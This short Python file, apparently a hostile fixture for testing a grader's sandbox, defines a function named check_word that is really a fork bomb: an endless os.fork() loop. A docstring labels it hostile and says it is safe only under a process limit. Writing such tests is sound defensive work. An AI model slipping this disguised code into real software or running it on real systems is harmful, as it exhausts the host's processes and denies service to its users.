"""Hostile: check_word is a fork bomb (only safe where RLIMIT_NPROC holds: a dedicated uid, i.e. grading as root)."""
import os


def check_word(secret, guess):
    while True:
        os.fork()
